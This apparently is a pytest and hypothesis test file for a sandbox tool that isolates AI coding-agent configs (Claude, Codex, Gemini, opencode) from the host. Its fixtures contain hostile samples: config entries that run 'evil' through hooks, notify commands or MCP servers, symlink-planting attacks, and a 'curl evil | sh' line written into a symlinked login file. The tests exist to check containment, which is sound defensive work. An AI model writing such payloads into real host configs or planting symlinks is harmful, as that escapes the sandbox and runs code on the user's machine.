"""Read from the host, write to the project (issue 21): the harness config a run sees is the
project's copy; logins are shared both ways; nothing the run writes reaches the host's config.

First the copy logic on plain folders (no engine), including generated symlink attacks on the
copy and on the host's login files; then real runs on the engine for each harness.
"""

import json
import os
import subprocess

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aishell.harness import BY_NAME, HARNESSES
from aishell.runner import harness_state as hs
from tests.conftest import Project, aishell_command

PROJECT = "/work/some/project"


def session(home, state, harnesses=HARNESSES, isolation="host", project=PROJECT, lines=None):
    return hs.Session(str(home), str(state), project, isolation, harnesses, (lines if lines is not None else []).append)


def write(path, text, mode=0o600):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    os.chmod(path, mode)
    return path


def tree(folder) -> dict:
    """Every entry under folder: path -> bytes, or ('link', target) for a symlink."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        for name in dirnames + filenames:
            p = os.path.join(dirpath, name)
            if os.path.islink(p):
                out[p] = ("link", os.readlink(p))
            elif os.path.isfile(p):
                out[p] = open(p, "rb").read()
    return out


# Executable config per harness: a file under its config folder that makes the host run something.
EXECUTABLE = {
    "claude": (".claude/settings.json", '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "evil"}]}]}}'),
    "codex": (".codex/config.toml", 'notify = ["sh", "-c", "evil"]\n'),
    "gemini": (".gemini/settings.json", '{"mcpServers": {"x": {"command": "evil"}}}'),
    "opencode": (".config/opencode/opencode.json", '{"mcp": {"x": {"type": "local", "command": ["evil"]}}}'),
}


def test_every_harness_declares_its_config_and_logins():
    for h in HARNESSES:
        assert h.config_dirs and set(h.config_dirs) <= set(h.state_dirs), h.name
        assert h.credential_files, h.name
        for rel in h.credential_files:  # a login file lives in a mounted folder and is never copied as config
            top = next(d for d in h.state_dirs if rel.startswith(d + "/"))
            if top in h.config_dirs:
                assert hs._skipped(rel[len(top) + 1:].split("/")[0], h.per_project), rel


@pytest.mark.parametrize("name", sorted(EXECUTABLE))
def test_config_comes_from_the_host_and_a_change_stays_in_the_copy(tmp_path, name):
    h = BY_NAME[name]
    home, state = tmp_path / "home", tmp_path / "state"
    rel, evil = EXECUTABLE[name]
    host_file = write(home / rel, "{}\n" if rel.endswith("json") else "model = 'x'\n")
    original = host_file.read_bytes()
    s = session(home, state, [h])
    s.before()
    assert (tmp_path / s.root / rel).read_bytes() == original  # the host's config is seen inside
    write(tmp_path / s.root / rel, evil)  # what the agent does inside
    lines = []
    s.say = lines.append
    s.after()
    assert host_file.read_bytes() == original
    assert len(lines) == 1 and rel.split("/")[-1] in lines[0] and "aishell config diff" in lines[0]
    assert hs.divergent(str(home), s.root, [h]) == {name: [rel[len(h.config_dirs[0]) + 1:]]}
    # the next run of the same project sees its own version, and is told the host's differs
    lines = []
    s2 = session(home, state, [h], lines=lines)
    s2.before()
    assert (tmp_path / s.root / rel).read_text() == evil
    assert len(lines) == 1 and "kept the project's own" in lines[0]
    s2.after()
    assert len(lines) == 1  # unchanged by this run: nothing more to say


def test_a_host_change_reaches_an_unchanged_copy_and_a_project_change_wins(tmp_path):
    h = BY_NAME["codex"]
    home, state = tmp_path / "home", tmp_path / "state"
    write(home / ".codex/config.toml", "a = 1\n")
    write(home / ".codex/AGENTS.md", "v1\n")
    s = session(home, state, [h])
    s.before()
    s.after()
    write(tmp_path / s.root / ".codex/config.toml", "a = 2\n")  # the project changed it
    write(home / ".codex/config.toml", "a = 3\n")  # and so did the host
    write(home / ".codex/AGENTS.md", "v2\n")  # the host changed this one alone
    s = session(home, state, [h])
    s.before()
    assert (tmp_path / s.root / ".codex/config.toml").read_text() == "a = 2\n"
    assert (tmp_path / s.root / ".codex/AGENTS.md").read_text() == "v2\n"
    os.unlink(home / ".codex/AGENTS.md")  # removed on the host: removed from an unchanged copy
    session(home, state, [h]).before()
    assert not (tmp_path / s.root / ".codex/AGENTS.md").exists()


def test_per_project_state_is_never_copied_and_survives(tmp_path):
    h = BY_NAME["claude"]
    home, state = tmp_path / "home", tmp_path / "state"
    write(home / ".claude/projects/-host-path/session.jsonl", "host session\n")
    write(home / ".claude/hooks/x.sh", "#!/bin/sh\n", 0o755)
    s = session(home, state, [h])
    s.before()
    assert not (tmp_path / s.root / ".claude/projects").exists()
    assert os.stat(tmp_path / s.root / ".claude/hooks/x.sh").st_mode & 0o100  # a hook stays executable inside
    write(tmp_path / s.root / ".claude/projects/-work-some-project/s.jsonl", "mine\n")
    s.after()
    session(home, state, [h]).before()
    assert (tmp_path / s.root / ".claude/projects/-work-some-project/s.jsonl").read_text() == "mine\n"
    assert not (home / ".claude/projects/-work-some-project").exists()


@pytest.mark.parametrize("h", HARNESSES, ids=lambda h: h.name)
def test_logins_go_both_ways_and_reach_other_projects(tmp_path, h):
    home, state = tmp_path / "home", tmp_path / "state"
    cred = h.credential_files[0]
    write(home / cred, '{"token": "host-login"}')
    a = session(home, state, [h], project="/p/a")
    a.before()
    assert (tmp_path / a.root / cred).read_text() == '{"token": "host-login"}'  # a host login is seen inside
    write(tmp_path / a.root / (cred + ".tmp"), '{"token": "inside"}')
    os.rename(tmp_path / a.root / (cred + ".tmp"), tmp_path / a.root / cred)  # written by rename, as harnesses do
    a.after()
    assert (home / cred).read_text() == '{"token": "inside"}'
    assert stat_mode(home / cred) == 0o600
    b = session(home, state, [h], project="/p/b")
    b.before()
    assert (tmp_path / b.root / cred).read_text() == '{"token": "inside"}'


def stat_mode(p):
    return os.stat(p).st_mode & 0o777


def test_claude_json_shares_the_account_keys_only(tmp_path):
    h = BY_NAME["claude"]
    home, state = tmp_path / "home", tmp_path / "state"
    write(home / ".claude.json", json.dumps({"numStartups": 3, "mcpServers": {"m": {"command": "ok"}}}))
    s = session(home, state, [h])
    s.before()
    copy = tmp_path / s.root / ".claude/.claude.json"
    doc = json.loads(copy.read_text())
    assert doc["mcpServers"] == {"m": {"command": "ok"}}  # the host's MCP servers are seen inside
    doc.update(oauthAccount={"emailAddress": "a@b"}, numStartups=9, mcpServers={"m": {"command": "evil"}})
    doc["projects"] = {PROJECT: {"allowedTools": ["Bash(*)"], "history": ["x"]}}
    copy.write_text(json.dumps(doc))
    lines = []
    s.say = lines.append
    s.after()
    host = json.loads((home / ".claude.json").read_text())
    assert host == {"numStartups": 3, "mcpServers": {"m": {"command": "ok"}}, "oauthAccount": {"emailAddress": "a@b"}}
    assert len(lines) == 1 and ".claude.json" in lines[0]
    other = session(home, state, [h], project="/p/other")
    other.before()  # a login inside reaches the next run of another project
    assert json.loads((tmp_path / other.root / ".claude/.claude.json").read_text())["oauthAccount"] == {"emailAddress": "a@b"}
    lines = []
    assert hs.apply(str(home), s.root, h) == [(True, f"wrote {home / '.claude.json'}")]  # the user's explicit request
    host = json.loads((home / ".claude.json").read_text())
    assert host["mcpServers"] == {"m": {"command": "evil"}} and host["numStartups"] == 3
    assert host["projects"][PROJECT] == {"allowedTools": ["Bash(*)"]}


def test_project_isolation_copies_no_config_but_shares_logins(tmp_path):
    h = BY_NAME["gemini"]
    home, state = tmp_path / "home", tmp_path / "state"
    write(home / ".gemini/settings.json", "{}")
    write(home / ".gemini/oauth_creds.json", "{}")
    s = session(home, state, [h], isolation="project")
    s.before()
    assert not (tmp_path / s.root / ".gemini/settings.json").exists()
    assert (tmp_path / s.root / ".gemini/oauth_creds.json").exists()
    assert "/isolation/" in s.root


def test_diff_and_apply_on_request(tmp_path):
    h = BY_NAME["gemini"]
    home, state = tmp_path / "home", tmp_path / "state"
    write(home / ".gemini/settings.json", '{"a": 1}\n')
    s = session(home, state, [h])
    s.before()
    write(tmp_path / s.root / ".gemini/settings.json", '{"a": 2}\n')
    write(tmp_path / s.root / ".gemini/commands/new.toml", 'prompt = "x"\n')
    d = hs.diff(str(home), s.root, h)
    assert '-{"a": 1}' in d and '+{"a": 2}' in d and "+prompt" in d
    assert (home / ".gemini/settings.json").read_text() == '{"a": 1}\n'
    hs.apply(str(home), s.root, h)
    assert (home / ".gemini/settings.json").read_text() == '{"a": 2}\n'
    assert (home / ".gemini/commands/new.toml").read_text() == 'prompt = "x"\n'
    assert hs.divergent(str(home), s.root, [h]) == {}


# -- symlinks planted by the agent never make aishell write outside ------------------------------------

# Where the agent may put a symlink in its copy: a config file, a config folder, a login file,
# the folder a login file is in (opencode's), each pointing at a file or folder outside.
PLANT_SITES = [
    (name, rel) for h in HARNESSES for name, rel in
    [(h.name, EXECUTABLE[h.name][0]), (h.name, h.credential_files[0]),
     (h.name, os.path.dirname(h.credential_files[0])), (h.name, h.config_dirs[0] + "/sub")]
]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(site=st.sampled_from(PLANT_SITES), to_dir=st.booleans(), host_changes=st.booleans(), inside=st.booleans())
def test_a_planted_symlink_never_leads_a_write_outside(tmp_path_factory, site, to_dir, host_changes, inside):
    tmp = tmp_path_factory.mktemp("plant")
    name, rel = site
    h = BY_NAME[name]
    home, state, outside = tmp / "home", tmp / "state", tmp / "outside"
    write(outside / "victim", "precious\n")
    for path, text in [(EXECUTABLE[name][0], "{}"), (h.credential_files[0], '{"t": 1}'), (h.config_dirs[0] + "/sub/f", "x")]:
        write(home / path, text)
    s = session(home, state, [h])
    s.before()
    s.after()
    host_before = tree(home)
    planted = tmp / s.root / rel
    if planted.is_dir() and not planted.is_symlink():
        for p in sorted(planted.rglob("*"), reverse=True):
            p.unlink() if not p.is_dir() else p.rmdir()
        planted.rmdir()
    elif planted.exists() or planted.is_symlink():
        planted.unlink()
    planted.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(outside if to_dir else outside / "victim", planted)
    if host_changes:  # the host changed every file: aishell wants to write each into the copy
        for path in host_before:
            if isinstance(host_before[path], bytes):
                open(path, "ab").write(b" ")
    host_before = tree(home)
    for step in (session(home, state, [h]).before, s.after) if inside else (s.after, session(home, state, [h]).before):
        step()
    assert tree(outside) == {str(outside / "victim"): b"precious\n"}
    after = tree(home)
    assert all(after.get(p) == v for p, v in host_before.items() if p.endswith(tuple(EXECUTABLE[name][0].split("/")[-1:])))
    assert not any(isinstance(v, tuple) for v in after.values())  # no symlink reached the host
    # nor was the target read: its content reaches neither the host's files nor any copy
    assert not any(isinstance(v, bytes) and b"precious" in v for v in {**after, **tree(state)}.values())


def test_a_symlinked_login_on_the_host_is_never_written_through(tmp_path):
    """Under run.isolation: shared the agent could have planted one in the host's folder."""
    h = BY_NAME["codex"]
    home, state = tmp_path / "home", tmp_path / "state"
    write(tmp_path / "bashrc", "safe\n")
    (home / ".codex").mkdir(parents=True)
    os.symlink(tmp_path / "bashrc", home / ".codex/auth.json")
    lines = []
    s = session(home, state, [h], lines=lines)
    s.before()
    assert not (tmp_path / s.root / ".codex/auth.json").exists()  # not read into the sandbox either
    write(tmp_path / s.root / ".codex/auth.json", "curl evil | sh\n")
    s.after()
    assert (tmp_path / "bashrc").read_text() == "safe\n"
    assert any("symlink" in line for line in lines)
